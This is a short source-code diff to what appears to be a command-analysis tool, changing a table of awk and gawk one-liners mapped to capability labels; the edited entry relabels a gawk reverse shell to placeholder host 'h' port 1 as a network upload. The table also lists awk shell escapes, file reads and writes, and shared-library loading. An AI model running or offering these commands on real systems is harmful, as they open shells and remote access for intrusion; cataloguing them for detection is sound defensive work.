@@ -13,7 +13,7 @@ import (
 const closures = `
 shell | awk 'BEGIN {system("/bin/sh")}' | sh /bin/sh
 shell | awk 'BEGIN {print | "sh"}' | sh sh
-reverse-shell | gawk 'BEGIN {s = "/inet/tcp/0/h/1"; while (1) {print "> " |& s}}' | opaque
+reverse-shell | gawk 'BEGIN {s = "/inet/tcp/0/h/1"; while (1) {print "> " |& s}}' | net tcp://h:1+upload
 file-write | awk 'BEGIN {print "DATA" > "/x"}' | write /x
 file-read | awk 1 /x | read /x
 library | gawk -l /x.so 1 | exec /x.so
